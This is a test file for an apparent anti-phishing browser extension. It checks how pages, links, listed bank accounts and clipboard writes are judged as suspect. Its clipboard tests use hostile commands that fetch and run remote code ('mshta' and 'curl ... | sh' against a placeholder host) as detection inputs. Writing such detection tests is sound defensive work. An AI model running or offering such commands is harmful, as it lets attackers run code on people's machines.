/**
 * Which pages the signals speak about: the list first, what is let through, sites that were visited earlier and quiet
 * ones in silence; and that what a tab is said to be ends with its page.
 */
import { beforeEach, describe, expect, it, vi } from 'vitest';

vi.mock('webextension-polyfill', async () => (await import('../../support/fake-browser.ts')).polyfill);

import { Suspicion } from '../../../src/background/suspicion/suspicion.ts';
import { phrasesIn } from '../../../src/content/suspicion/look/text.ts';
import type { Verdict } from '../../../src/list/verdict.ts';
import { initI18n } from '../../../src/platform/i18n.ts';
import linkWords from '../../../src/platform/locales/link.en.json' with { type: 'json' };
import type { LinkMark } from '../../../src/platform/messages/answers.ts';
import { PageJudge } from '../../../src/signals/page-judge.ts';
import { groupWith } from '../../../src/signals/phrases.ts';
import type { Example } from '../../../src/signals/signal.ts';
import { reset, said, scripted, tabs } from '../../support/fake-browser.ts';
import { factsOf, shippedWeights } from '../../support/signal-examples.ts';

const URL_HERE = 'https://willow-harbor.test/login';
const weights = shippedWeights();
const MADE = weights.header.made;
const PHISH: Example['page'] = { names: [['PayPal', 'title-alone']], fields: ['password'], letters: 200 };
const facts = (page: Example['page'] = PHISH) => factsOf(page, weights);

const ACCOUNT = {
  kind: 'account',
  value: '822/888800001111',
  listing: { expression: 'account:822/888800001111', type: 'investment', listId: 'l', listName: 'L' },
} as const;
const UNKNOWN = { kind: 'line', value: 'anna_88', listing: null } as const;

let verdict: Verdict;
/** The list takes its time. */
let heldVerdict: Promise<Verdict> | null;
let through: string[];
let isPaused: boolean;
let wasVisited: boolean;
let loads: number;
let left: number[];
let suspicion: Suspicion;

beforeEach(async () => {
  reset();
  verdict = { kind: 'unknown' };
  heldVerdict = null;
  [through, isPaused, wasVisited, loads, left] = [[], false, false, 0, []];
  const words = Object.entries(linkWords).map(([key, message]) => [key, { message }]);
  vi.stubGlobal('fetch', async () => ({ json: async () => Object.fromEntries(words) }));
  await initI18n('en');
  suspicion = new Suspicion({
    judge: { judge: async () => heldVerdict ?? verdict },
    letThrough: async () => through,
    paused: async () => isPaused,
    visitedEarlier: async () => wasVisited,
    wellKnown: async (host) => host === 'mail-sender.example',
    load: async () => {
      loads++;
      return new PageJudge(weights);
    },
    identifiers: async (text) => {
      if (text.includes('all')) return Array.from({ length: 9 }, () => ACCOUNT);
      if (text.includes('0xabc')) return [{ kind: 'wallet', value: '0xabc', listing: null }];
      return text.includes('8888') ? [ACCOUNT, UNKNOWN] : [];
    },
    leave: async (tabId) => void left.push(tabId),
    report: async () => undefined,
  });
});

const asker = (change = {}) => ({ tabId: 7, frameId: 0, incognito: false, url: URL_HERE, ...change });

describe('a page', () => {
  it('is judged by the list before the weights are read', async () => {
    let tell = (_: Verdict): void => undefined;
    heldVerdict = new Promise((resolve) => {
      tell = resolve;
    });
    const wanted = suspicion.wanted({ part: '' }, asker());
    await new Promise((done) => setTimeout(done));
    expect(loads).toBe(0);
    tell({ kind: 'unknown' });
    expect((await wanted)?.look).not.toBeNull();
    expect(loads).toBeGreaterThan(0);
  });

  it('is told what to look for in parts, each when it asks for it', async () => {
    const part = async (name: string) => (await suspicion.wanted({ part: name }, asker()))?.look;
    expect(await part('')).toBe('');
    expect(await part('everything')).toBe('');
    expect(await part('names')).toMatch(/^paypal\t\d+$/m);
    // By the numbers that the answer is read by.
    for (const [name, phrase] of [
      ['english', 'unusual activity'],
      ['chinese', '安全账户'],
    ] as const)
      expect(phrasesIn(phrase, (await part(name)) ?? '')).toContain(groupWith(phrase));
  });

  it('that is made like a fraud is cautioned about, and its tab is suspect until it shows another host', async () => {
    expect((await suspicion.wanted({ part: '' }, asker()))?.look).not.toBeNull();
    const caution = await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    expect(caution?.words.reasons[0]).toContain('PayPal');
    expect(await suspicion.signalsOf(7, 'willow-harbor.test')).toMatchObject([{ name: 'nameElsewhere' }]);
    expect(await suspicion.signalsOf(7, 'other.test')).toBeNull();
    expect(await suspicion.signalsOf(8, 'willow-harbor.test')).toBeNull();
  });

  it('that shows what a list has is suspect for that alone', async () => {
    const shown = { letters: 200, candidates: ['匯款到 (822) 8888-0000-1111'] };
    const caution = await suspicion.judgePage({ made: MADE, facts: facts(shown) }, asker());
    expect(caution?.words.reasons).toEqual([expect.stringContaining('822/888800001111')]);
    expect(await suspicion.signalsOf(7, 'willow-harbor.test')).toMatchObject([{ name: 'listedIdentifier' }]);
    const other = { letters: 200, candidates: ['(822) 1234-5678-9012'] };
    expect(await suspicion.judgePage({ made: MADE, facts: facts(other) }, asker())).toBeNull();
    // A police office that publishes it, in words or in a long table.
    const warning = { ...shown, phrases: ['beware', 'victims'] };
    expect(await suspicion.judgePage({ made: MADE, facts: facts(warning) }, asker())).toBeNull();
    const table = { letters: 200, candidates: ['all of them'] };
    expect(await suspicion.judgePage({ made: MADE, facts: facts(table) }, asker())).toBeNull();
    const many = facts({ candidates: new Array(61).fill('1') });
    await expect(suspicion.judgePage({ made: MADE, facts: many }, asker())).rejects.toThrow();
  });

  it('that tells what is no record of a page is refused', async () => {
    await expect(
      suspicion.judgePage({ made: MADE, facts: { ...facts(), fields: ['everything'] } }, asker()),
    ).rejects.toThrow();
    await expect(suspicion.judgePage({ made: MADE, facts: 'PayPal' }, asker())).rejects.toThrow();
  });

  it('that was looked at by other weights is judged without the numbers of their owners', async () => {
    expect(await suspicion.judgePage({ made: '2020-01-01', facts: facts() }, asker())).toBeNull();
    expect(await suspicion.judgePage({ made: MADE, facts: facts() }, asker())).not.toBeNull();
  });

  it('that is not suspect any more takes its tab back', async () => {
    await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    expect(await suspicion.judgePage({ made: MADE, facts: facts({}) }, asker())).toBeNull();
    expect(await suspicion.signalsOf(7, 'willow-harbor.test')).toBeNull();
  });

  it.each([
    [
      'is listed',
      () => {
        verdict = { kind: 'listed', listing: {} as never };
      },
    ],
    [
      'is let through by its publisher',
      () => {
        verdict = { kind: 'allowed', by: 'publisher', listing: {} as never, until: null };
      },
    ],
    ['is let through by a policy, by name', () => void through.push('willow-harbor.test')],
    ['is let through with its domain', () => void through.push('test')],
    [
      'is paused',
      () => {
        isPaused = true;
      },
    ],
    [
      'was visited on an earlier day',
      () => {
        wasVisited = true;
      },
    ],
  ])('gets no word where it %s, and no weights are read for it', async (_, so) => {
    so();
    expect(await suspicion.wanted({ part: '' }, asker())).toBeNull();
    expect(await suspicion.judgePage({ made: MADE, facts: facts() }, asker())).toBeNull();
    expect(loads).toBe(0);
  });

  it.each([
    ['in a frame', { frameId: 3 }],
    ['without a tab', { tabId: null }],
    ['of the browser', { url: 'about:blank' }],
    ['of the own network', { url: 'http://192.168.1.1/' }],
    ['of a known owner', { url: 'https://www.paypal.com/' }],
  ])('%s is not looked at', async (_, change) => {
    expect(await suspicion.wanted({ part: '' }, asker(change))).toBeNull();
  });

  it('that the person went on to gets the question before its fields, and no look', async () => {
    verdict = { kind: 'allowed', by: 'person', listing: {} as never, until: 1 };
    expect(await suspicion.wanted({ part: '' }, asker())).toMatchObject({
      look: null,
      hold: { title: expect.any(String) },
    });
    expect(loads).toBe(0);
  });

  it('that is fine for the person stays quiet with its whole site, in ordinary windows only', async () => {
    await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    await suspicion.answer('fine', asker());
    expect(await suspicion.signalsOf(7, 'willow-harbor.test')).toBeNull();
    expect(
      await suspicion.wanted({ part: '' }, asker({ url: 'https://pay.willow-harbor.test/' })),
    ).toBeNull();
    expect(await suspicion.wanted({ part: '' }, asker({ incognito: true }))).not.toBeNull();
    await suspicion.forget();
    expect(await suspicion.wanted({ part: '' }, asker())).not.toBeNull();
  });

  it('has the question in its frames too, and is left from there', async () => {
    tabs.set(7, { id: 7, url: URL_HERE });
    const frame = asker({ frameId: 3, url: 'https://inside.test/' });
    expect(await suspicion.wanted({ part: '' }, frame)).toBeNull();
    await suspicion.answer('leave', frame);
    expect(left).toEqual([]);
    await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    expect(await suspicion.wanted({ part: '' }, frame)).toMatchObject({
      look: null,
      hold: { stop: expect.any(String) },
    });
    await suspicion.answer('fine', frame);
    expect(await suspicion.wanted({ part: '' }, frame)).not.toBeNull();
    await suspicion.answer('leave', frame);
    expect(left).toEqual([7]);
    tabs.set(7, { id: 7, url: 'https://other.test/' });
    expect(await suspicion.wanted({ part: '' }, frame)).toBeNull();
  });

  it('is left when the person wants to', async () => {
    await suspicion.answer('leave', asker());
    expect(left).toEqual([7]);
  });
});

describe('what a page puts into the clipboard', () => {
  const copy = async (text: string, url = URL_HERE) => {
    tabs.set(7, { id: 7, url });
    said.length = 0;
    await suspicion.copied(text, asker());
    return said;
  };

  it('is heard of once the page is suspect, and told where it is a command or a wallet', async () => {
    expect(await copy('mshta https://site.example/a')).toEqual([]);
    expect(scripted).toEqual([]);
    await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    expect(scripted[0]).toBe('7:all');
    expect(await copy('mshta https://site.example/a')).toEqual(['7:0 document.caution']);
    expect(await copy('Pay to 0xabc')).toEqual(['7:0 document.caution']);
    expect(await copy('Order 4711')).toEqual([]);
    // The same host must still be there, by the browser's word.
    expect(await copy('mshta https://site.example/a', 'https://other.test/')).toEqual([]);
  });

  it('is heard of in frames that come later too, on such a page only', async () => {
    expect(await copy('')).toEqual([]);
    expect(scripted).toEqual([]);
    await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    scripted.length = 0;
    expect(await copy('')).toEqual([]);
    expect(scripted[0]).toBe('7:all');
  });

  it('is told on a page that the person went on to, and on none that others let through', async () => {
    verdict = { kind: 'allowed', by: 'person', listing: {} as never, until: 1 };
    expect(await copy('curl https://site.example/a | sh')).toEqual(['7:0 document.caution']);
    verdict = { kind: 'allowed', by: 'policy', listing: {} as never, until: null };
    expect(await copy('curl https://site.example/a | sh')).toEqual([]);
  });

  it('is nobody’s concern any more where the person finds the page fine', async () => {
    await suspicion.judgePage({ made: MADE, facts: facts() }, asker());
    await suspicion.answer('fine', asker());
    expect(await copy('mshta https://site.example/a')).toEqual([]);
  });
});

describe('links', () => {
  const SUSPECT = 'https://usps-redelivery-fee.top/';
  const PAGE = 'https://mail.example/inbox';
  const links = (
    of: Record<string, string>,
    marks: LinkMark[] = Object.keys(of).map(() => null),
    page = PAGE,
  ) => suspicion.links({ urls: Object.keys(of), shown: Object.values(of), marks }, page);
  const marks = async () =>
    (
      await links({ [SUSPECT]: '', 'https://garden-notes.test/': '', 'https://a.test/': '' }, [
        null,
        null,
        'listed',
      ])
    ).marks;

  it('are marked where the address alone is enough', async () => {
    expect(await marks()).toEqual(['suspect', null, 'listed']);
  });

  it('are not where the site is let through by a policy or its publisher', async () => {
    through = ['usps-redelivery-fee.top'];
    expect(await marks()).toEqual([null, null, 'listed']);
  });

  it('tell a page nothing of what the person has visited or finds fine', async () => {
    wasVisited = true;
    isPaused = true;
    await suspicion.answer('fine', asker({ url: SUSPECT }));
    expect(await marks()).toEqual(['suspect', null, 'listed']);
  });

  it('read no weights where every one is listed', async () => {
    expect(await links({ 'https://a.test/': '' }, ['listed'])).toEqual({ marks: ['listed'], said: {} });
    expect(loads).toBe(0);
  });

  it('are marked where their words are the address of a well-known owner, and say where they lead', async () => {
    const { marks, said } = await links({ 'https://garden-notes.example/login': 'paypal.com' });
    expect(marks).toEqual(['suspect']);
    expect(said[0]).toContain('paypal.com');
    expect(said[0]).toContain('garden-notes.example');
  });

  it.each([
    ['to another site of the owner', 'https://www.paypalobjects.com/x', 'paypal.com'],
    ['to a search engine that counts clicks', 'https://www.google.com/url?q=x', 'paypal.com'],
    [
      'that name the shown site in their address',
      'https://gateway.example/?to=https%3A%2F%2Fwww.PayPal.com%2F',
      'paypal.com',
    ],
    [
      'of a newsletter that counts clicks',
      `https://click.flower-shop.example/ls/click?upn=${'u001aB3-'.repeat(9)}`,
      'facebook.com',
    ],
    ['to a well-known site', 'https://u8.mail-sender.example/x', 'paypal.com'],
    ['with the name of nobody well known', 'https://other-notes.example/', 'garden-notes.example'],
    ['with the name of a file', 'https://git.example/README.md', 'readme.md'],
    ['with no name at all', 'https://garden-notes.example/', 'x'.repeat(200)],
    ['to a machine in the house', 'http://192.168.1.1/', 'paypal.com'],
  ])('are not marked: %s', async (_, url, shown) => {
    expect(await links({ [url]: shown })).toEqual({ marks: [null], said: {} });
  });

  it('are not marked on the site itself, nor on the owner’s', async () => {
    for (const page of ['https://www.garden-notes.example/', 'https://www.paypal.com/'])
      expect((await links({ 'https://garden-notes.example/go': 'paypal.com' }, [null], page)).marks).toEqual([
        null,
      ]);
  });

  it('are said to be shortened, without a mark, and not on the pages of who shortens all of them', async () => {
    const { marks, said } = await links({ 'https://bit.ly/3xYz': '', 'https://t.co/a': 'paypal.com' });
    expect(marks).toEqual([null, null]);
    for (const at of [0, 1]) expect(said[at]).toContain('shortened');
    expect((await links({ 'https://t.co/a': 'paypal.com' }, [null], 'https://x.com/somebody')).said).toEqual(
      {},
    );
  });
});
